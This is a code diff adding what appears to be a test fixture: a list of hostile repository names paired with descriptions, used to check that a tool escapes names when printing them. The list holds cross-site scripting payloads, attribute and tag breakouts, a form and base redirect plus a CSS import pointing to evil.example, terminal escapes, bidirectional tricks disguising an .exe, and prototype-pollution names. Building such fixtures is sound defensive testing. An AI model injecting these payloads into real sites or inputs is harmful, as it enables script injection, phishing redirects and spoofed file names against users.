@@ -1,0 +1,35 @@
+// Names that a repository may choose, to break out of what prints them: a word for each, and the name.
+export const HOSTILE: readonly (readonly [string, string])[] = [
+  ['a script', '<script>alert(1)</script>'],
+  ['the end of a script', '</script></style></title></svg></pre><script>alert(1)</script>'],
+  ['an image with a handler', '"><img src=x onerror=alert(1)>'],
+  ['the end of a comment', '--><img src=x onerror=alert(1)>'],
+  ['the end of a CDATA section', ']]><script>alert(1)</script>'],
+  ['an attribute in double quotes', '" onmouseover="alert(1)" x="'],
+  ['an attribute in single quotes', "' onfocus='alert(1)' autofocus tabindex='1"],
+  ['an attribute in backticks', '` onload=`alert(1)'],
+  ['a frame', '<iframe srcdoc="<script>alert(1)</script>"></iframe>'],
+  [
+    'SVG inside SVG',
+    '</text></svg><svg onload=alert(1)><animate onbegin=alert(1) attributeName=x>',
+  ],
+  [
+    'foreign content',
+    '<math><mtext><table><mglyph><style><!--</style><img title="--><img src onerror=alert(1)>">',
+  ],
+  [
+    'a base and a form',
+    '<base href="//evil.example/"><form action="//evil.example"><button>Sign in',
+  ],
+  ['entities', '&lt;script&gt;&#60;script&#x3e;&quot;&NewLine;&amp'],
+  ['a script URL', 'javascript:alert(1)//'],
+  ['CSS', '</style><style>*{display:none}</style>{}@import url(//evil.example)'],
+  ['terminal escapes', '\u001b]8;;https://evil.example\u0007\u001b[2J\u009b31m'],
+  ['bidirectional overrides', '\u202egnp.exe\u2066\u2069\u200f'],
+  ['invisible characters', 'a\u200b\u00ad\ufeff\u2060\u{e0041}b'],
+  ['line separators', 'a\u2028b\u2029c\r\nd\u0085e\u000bf'],
+  ['NUL', 'a\u0000b'],
+  ['lone surrogates', 'a\ud800b\udc00c'],
+  ['prototype names', '__proto__'],
+  ['replacement patterns', "$&$'$`$1"],
+]
